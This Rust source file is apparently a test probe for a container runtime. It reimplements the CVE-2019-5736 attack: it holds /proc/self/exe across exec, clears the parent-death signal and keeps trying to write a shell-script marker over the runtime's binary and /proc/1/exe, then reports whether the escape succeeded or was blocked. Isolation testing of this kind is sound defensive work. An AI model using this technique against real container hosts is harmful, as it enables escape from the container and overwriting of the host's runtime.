//! `overwrite-exe`: the attack on the runtime's own binary (the CVE-2019-5736 class).
//!
//! Staged by a hostile image whose entry point is `#!/proc/self/exe overwrite-exe` and whose
//! dynamic loader is this probe: the kernel then executes the runtime's binary inside the
//! container with the probe as its loader, so the probe runs with `/proc/self/exe` naming
//! whatever the runtime executed from. It clears its parent-death signal (to outlive the
//! runtime if it can), opens `/proc/self/exe` (kept across exec), and re-executes itself
//! from the image as `overwrite-fd N`, so that nothing maps the runtime's binary any more;
//! that process keeps reopening the held file (and `/proc/1/exe`) for writing for a few
//! seconds and writes a marker into the first it can open. The test judges from the host,
//! on a copy of the runtime's binary.
//!
//! Neither is an entry of the attempt list: run normally, `/proc/self/exe` is the probe
//! itself, which belongs to the image.

use crate::sys::{self, Errno};
use std::ffi::CString;
use std::os::fd::AsRawFd;
use std::process::ExitCode;
use std::time::{Duration, Instant};

/// What the attacker writes when it gets a writable handle.
pub const MARKER: &[u8] = b"#!/bin/sh\necho overwritten by the container\n";

/// How long the attacker keeps trying (the runtime may only exit after a while).
const BUDGET: Duration = Duration::from_secs(3);

/// Where the probe lives in the test images.
const PROBE: &str = "/bin/crabcan-probe";

/// First stage, as the runtime binary's loader: hold `/proc/self/exe` and hand over.
pub fn overwrite_exe() -> ExitCode {
    // SAFETY: prctl with plain integer arguments.
    unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0) };
    // Run as a plain command (not as a loader), /proc/self/exe is the probe, the image's
    // own file: only the init is a target then.
    let as_loader = std::fs::read_link("/proc/self/exe")
        .map(|p| !p.to_string_lossy().ends_with("crabcan-probe"))
        .unwrap_or(true);
    // SAFETY: a constant path; the fd is deliberately kept across exec (no O_CLOEXEC).
    let fd = if as_loader {
        unsafe { libc::open(c"/proc/self/exe".as_ptr(), libc::O_PATH) }
    } else {
        -1
    };
    let held = if fd >= 0 { fd.to_string() } else { "-".into() };
    println!("ready");
    let argv = [PROBE, "overwrite-fd", held.as_str()].map(|a| CString::new(a).unwrap_or_default());
    let env: [CString; 0] = [];
    let e = nix::unistd::execve(&argv[0], &argv, &env).err();
    println!("error: overwrite-exe: cannot exec {PROBE}: {e:?}");
    ExitCode::from(2)
}

/// Second stage: keeps trying to write through the held fd `N` (or `-`) and `/proc/1/exe`.
pub fn overwrite_fd(args: &[String]) -> ExitCode {
    let held: Option<i32> = args.first().and_then(|a| a.parse().ok());
    let start = Instant::now();
    let mut last = Vec::new();
    while start.elapsed() < BUDGET {
        last.clear();
        let mut targets = vec![("/proc/1/exe".to_string(), "/proc/1/exe".to_string())];
        if let Some(fd) = held {
            targets.push((
                "the held /proc/self/exe".into(),
                format!("/proc/self/fd/{fd}"),
            ));
        }
        for (name, path) in &targets {
            let Ok(c) = CString::new(path.as_str()) else {
                continue;
            };
            match sys::open(&c, libc::O_WRONLY) {
                Ok(w) => {
                    // SAFETY: writes from a live buffer to an fd we own.
                    let n = unsafe {
                        libc::pwrite(w.as_raw_fd(), MARKER.as_ptr().cast(), MARKER.len(), 0)
                    };
                    if n > 0 {
                        println!(
                            "ESCAPED: overwrite-exe: {name} opened for writing, wrote {n} bytes"
                        );
                        return ExitCode::from(1);
                    }
                    last.push(format!("{name}: opened, write {}", sys::en(Errno::last())));
                }
                Err(e) => last.push(format!("{name}: {}", sys::en(e))),
            }
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    println!("blocked: overwrite-exe: {}", last.join("; "));
    ExitCode::SUCCESS
}

/// `no-pdeathsig CMD [ARG...]`: clears the parent-death signal, then executes CMD (as a
/// command that wants to outlive its runtime would).
pub fn no_pdeathsig(args: &[String]) -> ExitCode {
    // SAFETY: prctl with plain integer arguments.
    unsafe { libc::prctl(libc::PR_SET_PDEATHSIG, 0, 0, 0, 0) };
    let Some(argv) = args
        .iter()
        .map(|a| CString::new(a.as_str()).ok())
        .collect::<Option<Vec<_>>>()
        .filter(|v| !v.is_empty())
    else {
        println!("error: no-pdeathsig: give a command without NUL bytes");
        return ExitCode::from(2);
    };
    let e = nix::unistd::execvp(&argv[0], &argv).err();
    println!("error: no-pdeathsig: cannot exec {}: {e:?}", args[0]);
    ExitCode::from(2)
}
